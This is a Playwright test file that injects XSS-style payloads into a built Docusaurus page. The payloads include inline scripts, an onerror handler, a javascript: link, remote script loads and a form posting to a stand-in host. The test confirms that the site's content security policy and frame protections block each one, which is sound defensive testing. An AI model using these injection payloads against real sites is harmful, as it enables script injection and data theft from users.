import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { twoStaticPages } from '../../support/builtPages';
import { collectViolations } from '../../support/violations';

const [ROUTE] = twoStaticPages();

/** A site that no page may contact. */
const ELSEWHERE = 'https://elsewhere.example';

/** Markup that an attacker might get into a page. What runs sets `window.ran`. */
const MARKUP = `
<base href="${ELSEWHERE}/">
<script>window.ran = ['inline script']</script>
<script src="${ELSEWHERE}/script.js"></script>
<style>#payload { position: fixed }</style>
<p id="payload" style="color: rgb(1, 2, 3)">payload</p>
<img src="/missing.png" onerror="window.ran = ['inline handler']" alt="">
<img src="${ELSEWHERE}/picture.png" alt="">
<a id="script-link" href="javascript:window.ran = ['javascript: link']">link</a>
<form id="form" action="${ELSEWHERE}/form"><input name="secret" value="1"></form>`;

/** Comes last, after the site's own scripts. */
const SCRIPT = '<script src="/assets/js/payload.js"></script>';

/**
 * What an attacker's text inside one of the site's scripts could try. It is served as a file, because scripts that a
 * test runs by `page.evaluate` are exempt from the policy.
 */
function tryEverything(elsewhere: string): void {
  const attempts: Record<string, () => unknown> = {
    // biome-ignore lint/security/noGlobalEval: this is what must be blocked
    eval: () => eval('1'),
    innerHTML: () => {
      document.body.innerHTML = '<p>gone</p>';
    },
    'script address': () => {
      document.head.append(Object.assign(document.createElement('script'), { src: `${elsewhere}/added.js` }));
    },
  };
  const results: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      attempt();
      results[name] = 'allowed';
    } catch (error) {
      results[name] = (error as Error).name;
    }
  }
  Object.assign(window, { results });
  fetch(`${elsewhere}/fetch`).catch(() => Object.assign(results, { fetch: 'blocked' }));
}

/** Serves a page of the site with the payloads in it. @returns the requests that reached another site */
async function servePayloads(page: Page, route: string): Promise<string[]> {
  const reached: string[] = [];
  await page.context().route(`${ELSEWHERE}/**`, async (request) => {
    reached.push(request.request().url());
    await request.fulfill({ body: 'window.ran = ["elsewhere"]', contentType: 'text/javascript' });
  });
  await page.route('**/assets/js/payload.js', (request) =>
    request.fulfill({
      contentType: 'text/javascript',
      body: `(${tryEverything.toString()})(${JSON.stringify(ELSEWHERE)})`,
    }),
  );
  await page.route(`**${route}`, async (request) => {
    const response = await request.fetch();
    const html = await response.text();
    const body = html
      .replace('<div id=__docusaurus>', `${MARKUP}<div id=__docusaurus>`)
      .replace('</body>', `${SCRIPT}</body>`);
    await request.fulfill({ response, body });
  });
  return reached;
}

test('no payload in a page runs, changes its styles or reaches another site', async ({ page }) => {
  const violations = await collectViolations(page);
  const reached = await servePayloads(page, ROUTE);
  await page.goto(ROUTE);

  await test.step('the script of the page can neither run text, nor load a script, nor contact another site', async () => {
    await expect
      .poll(() => page.evaluate(() => Reflect.get(window, 'results')))
      .toEqual({
        eval: 'EvalError',
        innerHTML: 'TypeError',
        'script address': 'TypeError',
        fetch: 'blocked',
      });
  });

  await test.step('markup changes and sends nothing', async () => {
    await expect(page.locator('#payload')).not.toHaveCSS('color', 'rgb(1, 2, 3)');
    await expect(page.locator('#payload')).toHaveCSS('position', 'static');
    await page.locator('#script-link').dispatchEvent('click');
    await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit());
    await expect
      .poll(() => [...new Set(violations.map((violation) => violation.split(':')[0]))].sort())
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'img-src',
        'require-trusted-types-for',
        'script-src-attr',
        'script-src-elem',
        'style-src-attr',
        'style-src-elem',
      ]);
  });

  const state = await page.evaluate(() => [
    Reflect.get(window, 'ran'),
    document.baseURI === location.href,
    location.pathname,
  ]);
  expect(state).toEqual([undefined, true, ROUTE]);
  expect(reached).toEqual([]);
});

test('no other site can show the site in a frame', async ({ page, baseURL }) => {
  const other = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(`<iframe src="${baseURL}${ROUTE}"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(other, 'listening');
  const refused = page.waitForEvent('requestfailed');
  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  other.close();
});
